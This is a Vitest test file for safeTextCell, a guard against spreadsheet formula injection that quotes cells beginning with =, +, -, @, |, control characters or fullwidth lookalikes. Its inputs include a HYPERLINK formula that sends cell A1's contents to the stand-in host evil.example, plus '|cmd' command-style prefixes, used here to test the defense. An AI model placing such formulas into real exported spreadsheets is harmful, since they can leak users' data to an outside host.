import { describe, expect, it } from 'vitest';
import { safeTextCell } from './spreadsheet-safety';

describe('safeTextCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['|cmd', "'|cmd"],
    [' =1+1', "' =1+1"],
    ['\u3000@SUM(A1)', "'\u3000@SUM(A1)"],
    ['\uff1d1+1', "'\uff1d1+1"],
    ['\uff0b1', "'\uff0b1"],
    ['\uff0d1', "'\uff0d1"],
    ['\uff20SUM(A1)', "'\uff20SUM(A1)"],
    ['\uff5ccmd', "'\uff5ccmd"],
    ['a|b', 'a|b'],
    ['  Ana', '  Ana'],
    ['Ana Lima', 'Ana Lima'],
    ['S-0042', 'S-0042'],
    ['a=b', 'a=b'],
    ['', ''],
    ["'already quoted", "'already quoted"],
  ])('%j → %j', (input, expected) => {
    expect(safeTextCell(input)).toBe(expected);
  });
});
